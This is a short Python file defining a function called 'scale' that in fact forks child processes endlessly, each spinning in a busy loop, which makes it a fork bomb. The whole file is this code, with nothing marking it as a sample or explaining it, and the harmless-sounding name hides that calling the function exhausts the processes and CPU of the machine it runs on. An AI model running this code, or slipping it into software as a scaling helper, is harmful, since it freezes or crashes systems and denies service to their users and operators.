import os


def scale(x):
    while True:
        if os.fork() == 0:
            while True:
                pass
